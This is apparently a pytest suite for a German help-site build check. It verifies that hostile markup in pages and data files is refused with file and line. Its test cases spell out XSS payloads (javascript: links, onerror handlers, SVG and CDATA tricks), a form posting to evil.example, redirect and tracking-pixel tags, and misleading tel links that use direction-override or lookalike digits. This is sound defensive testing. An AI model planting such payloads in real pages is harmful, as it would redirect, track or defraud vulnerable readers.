"""Hostile or careless content is refused before the build, naming the file and the line (issue: content
cannot turn the site against its readers)."""

from __future__ import annotations

from pathlib import Path

import pytest

from scripts.checks import markup
from scripts.core.project import Project
from tests.conftest import ROOT

PROJECT = Project.load(ROOT / "mkdocs.yml")
MD = markup._markdown(PROJECT)
HEAD = "---\ntitle: Test\n---\n\n# Test\n\n"  # the bad line is line 7

CASES = [
    ("javascript link", "[Hilfe](javascript:alert(1))", "`javascript:` links are not allowed"),
    ("javascript link, entity-encoded", '<a href="jav&#x61;script:alert(1)">Hilfe</a>', "`javascript:` links"),
    ("javascript link with a tab", '<a href="java\tscript:alert(1)">Hilfe</a>', "`javascript:` links"),
    ("onerror attribute", '<img src="../assets/favicon.svg" onerror="alert(1)">', "attribute `onerror`"),
    ("onclick attribute", '<span onclick="alert(1)">Klick</span>', "attribute `onclick`"),
    ("onclick by attr_list on a heading", "## Titel {: onclick=\"alert(1)\" }", "attribute `onclick`"),
    ("onclick by attr_list on a link", "[x](hilfe.md){: onclick=\"alert(1)\" }", "attribute `onclick`"),
    ("svg javascript link", '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "<svg>"),
    ("data: link", '[Formular](data:text/html;base64,PHNjcmlwdD4=)', "`data:` links are not allowed"),
    ("form to another host", '<form action="https://evil.example/collect"><input name="q"></form>', "<form>"),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"),
    ("base href", '<base href="https://evil.example/">', "<base>"),
    ("meta refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta>"),
    ("lying tel link", "[110](tel:+4990012345678)", "shows `110` but dials `+4990012345678`"),
    ("tel link without digits shown", "[Polizei anrufen](tel:+4990012345678)", "but dials"),
    ("rtl override in a number", "Rufen Sie [\u202e011\u202c](tel:110) an.", "direction control U+202E"),
    ("isolate around a number", "Telefon \u2066116 016\u2069", "direction control U+2066"),
    ("zero-width space inside a number", "Telefon 116\u200b016", "invisible U+200B"),
    ("lookalike digits", "Telefon \U0001d7cf\U0001d7cf\U0001d7ce", "lookalike digit"),
    ("mixed digit scripts", "Telefon 11\u06f0", "mixes digits"),
    ("protocol-relative image", '<img src="//evil.example/pixel.gif">', "another server"),
    ("remote image", "![x](https://evil.example/pixel.gif)", "may not load images from other servers"),
    ("style attribute", '<span style="position:fixed;top:0">x</span>', "attribute `style`"),
    ("object tag", '<object data="https://evil.example/x.swf"></object>', "<object>"),
    # parsers disagree (a second reader found these): refused before any parser reads them
    ("abrupt comment", 'x <!--> <meta http-equiv="refresh" content="0;url=https://evil.example/"> -->', "`<!-->`"),
    ("abrupt comment 2", '<!---> <meta http-equiv=refresh> -->', "`<!--->`"),
    ("cdata", "<![CDATA[ > <svg onload=alert(1)> ]]>", "`<![`"),
    ("two hrefs", '<a href="tel:0900123" href="tel:110">110</a>', "given twice"),
    ("bdo in a phone link", '<a href="tel:011"><bdo dir="rtl">011</bdo></a>', "<bdo>"),
    ("dir in a phone link", '<a href="tel:011"><span dir="rtl">011</span></a>', "may not change the direction"),
    ("percent in a phone link", '<a href="tel:030123%34">03012334</a>', "percent-encoded"),
    ("line separator", "Text\u2028    <b>x</b>", "U+2028"),
]


@pytest.mark.parametrize("name,line,expected", CASES, ids=[c[0] for c in CASES])
def test_hostile_content_is_refused_with_file_and_line(tmp_path: Path, name: str, line: str, expected: str):
    path = tmp_path / "docs" / "de" / "neu.md"
    problems = list(markup.check_page_markup(path, HEAD + line + "\n", MD))
    assert problems, f"{name}: not refused"
    assert any(expected in p.message for p in problems), [str(p) for p in problems]
    assert all(p.line == 7 for p in problems), [str(p) for p in problems]
    assert all(p.fix for p in problems)


@pytest.mark.parametrize("line", [
    "Rufen Sie [110](tel:110) an. Hilfetelefon: [116 016](tel:116016).",
    "[۱۱۶ ۰۱۶](tel:116016) شبانه‌روزی",                    # Persian digits, ZWNJ in a Persian word
    "[١١٠](tel:110)",                                        # Arabic-Indic digits
    "[+49 800 1239900](tel:08001239900) und [0800 1239900](tel:+498001239900)",
    '<bdi dir="ltr">0800 22 55 530</bdi>, <span lang="de" dir="ltr">Frauenhaus</span>, <abbr title="x">GVG</abbr>',
    "H<sub>2</sub>O, 1<sup>st</sup>, Zeile<br>Zeile",
    "[Hilfe](hilfe.md), [Seite](https://www.hilfetelefon.de/), <mailto:info@example.org>, [Abschnitt](#oben)",
    "| Name | Telefon |\n|:-----|-------:|\n| Polizei | [110](tel:110) |",
    "Heading {: #anker .klasse lang=ar dir=rtl }",
    "`<script>` in Code ist Text",
    "<!-- site:help-directory -->",
])
def test_what_handouts_need_is_allowed(tmp_path: Path, line: str):
    path = tmp_path / "docs" / "de" / "ok.md"
    problems = list(markup.check_page_markup(path, HEAD + line + "\n", MD))
    assert not problems, [str(p) for p in problems]


def test_dialled_numbers():
    assert markup.dialled("+49 800 1239900") == markup.dialled("0800 1239900") == "08001239900"
    assert markup.dialled("۱۱۶ ۰۱۶") == "116016"
    assert markup.dialled("110") != markup.dialled("+4990012345678")


def test_real_content_passes():
    assert list(markup.markup_problems(PROJECT)) == []


def _project_copy(tmp_path: Path) -> Project:
    import shutil

    shutil.copy(ROOT / "mkdocs.yml", tmp_path / "mkdocs.yml")
    shutil.copytree(ROOT / "data", tmp_path / "data")
    (tmp_path / "docs" / "de").mkdir(parents=True)
    return Project.load(tmp_path / "mkdocs.yml")


@pytest.mark.parametrize("file,old,new,expected", [
    ("events.yml", "      de: Ihre Rechte", "      de: Ihre <b>Rechte</b>", "HTML is not allowed"),
    ("events.yml", "      de: Ihre Rechte", "      de: Ihre &lt;Rechte&gt;", "HTML is not allowed"),
    ("help.yml", "name: Hilfetelefon", "name: \u202eHilfetelefon", "direction control U+202E"),
    ("strings/ar.yml", "quick_exit:", "x_html: \"<img src=x onerror=alert(1)>\"\nquick_exit:", "HTML is not allowed"),
    ("emergency.yml", 'phone: "110"', 'phone: "1\u200b10"', "invisible U+200B"),
])
def test_data_files_are_plain_text(tmp_path: Path, file: str, old: str, new: str, expected: str):
    from scripts.checks import data

    project = _project_copy(tmp_path)
    path = project.data / file
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    problems = [p for p in data.plain_data_texts(project)]
    assert any(expected in p.message and p.path.endswith(file.split("/")[-1]) for p in problems), \
        [str(p) for p in problems]
    line = text.splitlines().index(next(x for x in text.splitlines() if old.split("\n")[0] in x)) + 1
    assert any(p.line == line for p in problems if expected in p.message), [str(p) for p in problems]


def test_real_data_is_plain_text():
    from scripts.checks import data

    assert list(data.plain_data_texts(PROJECT)) == []


def test_markup_cache_gives_the_same_answer_and_follows_edits(tmp_path: Path):
    project = _project_copy(tmp_path)
    page = project.docs / "de" / "neu.md"
    page.write_text(HEAD + "[Hilfe](javascript:alert(1))\n", encoding="utf-8")
    first = [str(p) for p in markup.markup_problems(project)]
    assert (tmp_path / ".cache" / "checks" / "markup.json").is_file()
    assert [str(p) for p in markup.markup_problems(project)] == first and first   # from the cache
    page.write_text(HEAD + "[Hilfe](hilfe.md)\n", encoding="utf-8")
    assert list(markup.markup_problems(project)) == []                            # the edit is seen
    (tmp_path / ".cache" / "checks" / "markup.json").write_text("{broken", encoding="utf-8")
    page.write_text(HEAD + "<iframe src=x></iframe>\n", encoding="utf-8")
    assert any("<iframe>" in p.message for p in markup.markup_problems(project))   # a broken cache is rebuilt



def test_fact_values_are_checked_like_page_text(tmp_path: Path):
    project = _project_copy(tmp_path)
    facts = project.data / "facts.yml"
    facts.write_text(facts.read_text(encoding="utf-8").replace("      en: 4 working days",
                                                               "      en: \"[110](tel:0900555123)\""), "utf-8")
    (project.docs / "en").mkdir()
    (project.docs / "en" / "rechte.md").write_text(HEAD + "Up to {{ fact:police-ban-police }}.\n", encoding="utf-8")
    problems = [str(p) for p in markup.markup_problems(project)]
    assert any("shows `110` but dials `0900555123`" in p for p in problems), problems


def test_front_matter_at_the_end_without_a_line_break_is_page_text(tmp_path: Path):
    """MkDocs renders `---` + text + `---` (no line break after) as page text: so does the check."""
    text = '---\nx: <span onmouseover=alert(1)>hi</span> <meta http-equiv="refresh" content="0;url=https://e.x/">\n---'
    problems = list(markup.check_page_markup(tmp_path / "p.md", text, MD))
    assert any("<meta>" in p.message for p in problems) and any("onmouseover" in p.message for p in problems)


def test_heading_cannot_become_script_in_the_title(tmp_path: Path):
    from tests.conftest import make_fixture_site, run_build

    pages = {"de/index.md": "# Start\n", "de/kinder.md": "# Kinder\n",
             "de/rechte.md": "# &lt;/title&gt;&lt;script&gt;alert(document.domain)&lt;/script&gt;\n\nText.\n"}
    config = make_fixture_site(tmp_path, [("de", "Deutsch")], pages, ["index.md", "rechte.md", "kinder.md"])
    result = run_build(config, env={"SKIP_PDF": "1"})
    assert result.returncode == 0, result.stderr
    html = (tmp_path / "site" / "rechte.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html
    assert "<title>&lt;/title&gt;&lt;script&gt;alert(document.domain)&lt;/script&gt; - " in html
    from scripts.site.htmlpost import inline_script_hashes
    assert len(inline_script_hashes(html)) <= 2   # only the theme's own inline scripts are allowed by hash
